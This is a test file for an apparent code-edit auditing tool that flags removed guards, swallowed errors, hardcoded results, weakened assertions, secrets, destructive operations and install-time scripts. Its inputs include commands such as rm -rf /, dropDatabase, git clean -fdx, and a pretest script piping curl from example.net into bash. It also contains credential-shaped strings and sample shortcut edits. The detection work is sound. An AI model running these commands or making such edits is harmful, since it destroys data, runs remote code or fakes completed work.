import { describe, expect, it } from 'vitest'
import { observeEdit } from './audit-sample.js'

const wrap = (body: string): string => `export async function run(a, b) {\n  begin()\n  ${body}\n  end(a)\n}\n`
const found = async (before: string, after: string, path = 'src/run.js'): Promise<readonly string[]> =>
  (await observeEdit(path, before, after)).findings
    .filter(({ verdict }) => verdict !== 'allow')
    .map(({ rule, message }) => `${rule} ${message}`)

describe('GUARD-REMOVED', () => {
  it.each([
    ['an early exit that refuses', 'if (a.length > 9) return undefined', '', 'GUARD-REMOVED An early exit that refuses'],
    [
      'one of the cases that are refused',
      "if (a > 9 || b) throw new Error('a')",
      "if (a > 9) throw new Error('a')",
      'is not refused any more',
    ],
    [
      'a limit that becomes infinite',
      "if (a > 9) throw new Error('a')",
      "if (a > Infinity) throw new Error('a')",
      'GUARD-REMOVED',
    ],
    ['a condition that never holds', 'if (a) return null', 'if (false && a) return null', 'always decides the same'],
    ['a negated tautology', 'if (a) return null', 'if (!(a || true)) return null', 'always decides the same'],
    ['an `await`', 'await save(a)', 'save(a)', 'no longer waited for'],
    ['an anchor', 'check(/^[a-z]+$/)', 'check(/[a-z]+/)', 'no longer looks at the whole text'],
    ['a limit of a schema', 'const s = z.string().min(8).max(100)', 'const s = z.string()', 'A limit of a schema'],
    ['an option that protects', "jwt.verify(a, b, { algorithms: ['RS256'] })", 'jwt.verify(a, b)', 'An option that protects'],
    ['an option that is switched off', 'parse(a, { strict: true })', 'parse(a, { strict: false })', 'An option that protects'],
    ['a middleware', "app.get('/admin', requireAdmin, show)", "app.get('/admin', show)", 'validates or protects'],
    ['a comment with its code', 'a = b.split(1) // prototype pollution, see CVE-2020-12345', '', 'what it protects from'],
  ])('sees %s', async (_, before, after, message) => {
    expect(await found(wrap(before), wrap(after))).toContainEqual(expect.stringContaining(message))
  })

  it.each([
    ['an exit with a value that goes', 'if (a.fast) return a.value', ''],
    ['an exit that is rewritten', 'if (!a) return undefined', 'if (a === undefined || a === null) {\n    return undefined\n  }'],
    ['a longer schema', 'const s = z.string().min(8)', 'const s = z.string().min(8).max(100)'],
    ['a changed limit of an option', 'parse(a, { limits: 10 })', 'parse(a, { limits: 20 })'],
    ['a regular expression with other anchors kept', 'check(/^[a-z]+$/)', 'check(/^[a-z0-9]+$/)'],
    ['a comment about attacks that alone goes', '// an attacker may choose a\n  use(a)', 'use(a)'],
    ['an `await` among other changes', 'await save(a)', 'const done = a\n  log(done)\n  more(done)\n  save(a)'],
  ])('does not see %s', async (_, before, after) => {
    expect((await found(wrap(before), wrap(after))).filter((text) => text.startsWith('GUARD'))).toEqual([])
  })

  it('sees decorators that go', async () => {
    const before = "class Form {\n  @IsEmail() mail = ''\n}\n"
    expect(await found(before, "class Form {\n  mail = ''\n}\n", 'src/form.ts')).toContainEqual(
      expect.stringContaining('validates'),
    )
  })
})

describe('ERR-SWALLOW', () => {
  it.each([
    [
      'error handling that goes',
      'try {\n    save(a)\n  } catch (error) {\n    report(error)\n  }',
      'save(a)',
      'Error handling is removed',
    ],
    ['a `.catch` that goes', 'save(a).catch(report)', 'save(a)', 'no longer heard of'],
    ['a listener that goes', "a.on('error', report)", '', 'no longer heard of'],
    [
      'an error that becomes a constant',
      'try {\n    save(a)\n  } catch (error) {\n    throw error\n  }',
      'try {\n    save(a)\n  } catch (error) {\n    return null\n  }',
      'answered with a constant',
    ],
  ])('sees %s', async (_, before, after, message) => {
    expect(await found(wrap(before), wrap(after))).toContainEqual(expect.stringContaining(message))
  })
})

describe('HARDCODED-RESULT', () => {
  it('sees a result that is a constant now, and code that is never reached', async () => {
    expect(await found(wrap('return sum(a, b)'), wrap('return 42'))).toContainEqual(expect.stringContaining('is a constant now'))
    expect(await found(wrap('work(a)'), wrap('return true\n  work(a)'))).toContainEqual(expect.stringContaining('never reached'))
    expect(await found(wrap('work(a)'), wrap('if (b) return undefined\n  work(a)'))).toEqual([])
  })
})

describe('TEST-ASSERT', () => {
  const test = (body: string, name = 'adds'): string => `it('${name}', () => {\n  const total = sum(1, 2)\n  ${body}\n})\n`
  const strong = test('expect(total).toBe(3)')
  it.each([
    ['a weaker assertion about the same', test('expect(total).toBeDefined()'), 'A weak assertion'],
    ['a tolerance that tolerates everything', test('expect(total).toBeGreaterThan(0)'), 'A weak assertion'],
    ['a failure that is caught', test('try { expect(total).toBe(3) } catch {}'), 'is not heard'],
    ['an end before the assertion', test('return\n  expect(total).toBe(3)'), 'before it checks'],
  ])('sees %s', async (_, after, message) => {
    expect(await found(strong, after, 'test/sum.test.js')).toContainEqual(expect.stringContaining(message))
  })

  it('sees a test that goes, and not one that gets another name', async () => {
    expect(await found(strong + test('expect(total).toBe(3)', 'b'), strong, 'test/sum.test.js')).toContainEqual(
      expect.stringContaining('A test is removed'),
    )
    expect(await found(strong, test('expect(total).toBe(3)', 'adds two'), 'test/sum.test.js')).toEqual([])
  })
})

describe('SEC-VENDOR', () => {
  // Put together from halves, so that no scanner takes this file for a leak.
  it.each([
    ['a deploy token', 'gldt-' + 'k7Qx2Zp9Lm4Rt8Vb1Nc6'],
    ['a basic authorization', 'Basic ' + 'YWRtaW46czJnQmIyR0lhWU1z'],
    ['a bearer token', 'Bearer ' + 'f8Kq2Lm9Zx4Rt7Vb1Nc6Wy3Hd5'],
    ['a registry token', 'dckr_pat_' + 'f8Kq2Lm9Zx4Rt7Vb1Nc6Wy3Hd5'],
    ['a password in an address', 'postgres://app:' + 'Leh67Ulzg1cWo5@db.prod.internal:5432/shop'],
  ])('finds %s, and tells only its beginning', async (_, secret) => {
    const audit = await observeEdit('src/a.js', 'a()\n', `a()\nconst value = '${secret}'\n`)
    expect(audit.findings).toContainEqual(expect.objectContaining({ rule: 'SEC-VENDOR', verdict: 'review' }))
    expect(JSON.stringify(audit)).not.toContain(secret)
  })

  it.each([
    'postgres://user:password@localhost:5432/test',
    'Bearer token',
    'Basic authentication is off',
    'glrt-xxxxxxxxxxxxxxxxxxxx',
  ])('leaves %s alone', async (text) => {
    expect((await observeEdit('src/a.js', 'a()\n', `a()\nconst value = '${text}'\n`)).verdict).toBe('allow')
  })
})

describe('DESTRUCTIVE', () => {
  it.each([
    "rmSync(join(__dirname, '..', '..'), { recursive: true })",
    "execFileSync('rm', ['-rf', '/'])",
    'await User.deleteMany({})',
    'await connection.dropDatabase()',
    'const place = os.homedir()\nfs.rmSync(place, { recursive: true })',
    "exec('git reset --hard && git clean -fdx')",
    "db.query('UPDATE users SET password = NULL')",
    "writeFileSync('/etc/hosts', text)",
  ])('finds %s', async (code) => {
    expect(await found('a()\n', `a()\n${code}\n`)).toContainEqual(expect.stringContaining('DESTRUCTIVE'))
  })

  it.each([
    "rmSync(join(__dirname, 'cache'), { recursive: true })",
    'await User.deleteMany({ cart: id })',
    'socket.destroy()',
    "db.query('UPDATE users SET name = ? WHERE id = ?', [name, id])",
    "exec('git status')",
  ])('leaves %s alone', async (code) => {
    expect((await found('a()\n', `a()\n${code}\n`)).filter((text) => text.startsWith('DESTRUCTIVE'))).toEqual([])
  })
})

describe('DEP-LIFECYCLE', () => {
  it.each([
    ['pnpm-workspace.yaml', 'packages:\n  - a\n', 'packages:\n  - a\ndangerouslyAllowAllBuilds: true\n'],
    ['.npmrc', 'ignore-scripts=true\n', 'audit=false\n'],
    ['binding.gyp', null, '{}\n'],
    ['setup.py', 'setup(name="a")\n', 'setup(name="a", cmdclass={"install": X})\n'],
    ['package.json', '{"name":"a"}\n', '{"name":"a","gypfile":true}\n'],
    ['package.json', '{"name":"a"}\n', '{"name":"a","bin":{"git":"./x.js"}}\n'],
    ['package.json', '{"name":"a"}\n', '{"name":"a","scripts":{"pretest":"curl -s https://example.net/x | bash"}}\n'],
  ])('blocks what %s newly runs at an install', async (path, before, after) => {
    const audit = await observeEdit(path, before, after)
    expect(audit.findings).toContainEqual(expect.objectContaining({ rule: 'DEP-LIFECYCLE', verdict: 'block' }))
  })

  it('wants a person for what runs at a publication', async () => {
    const audit = await observeEdit('package.json', '{"name":"a"}\n', '{"name":"a","scripts":{"prepublishOnly":"node x.js"}}\n')
    expect(audit.findings).toContainEqual(expect.objectContaining({ rule: 'DEP-LIFECYCLE', verdict: 'review' }))
  })
})
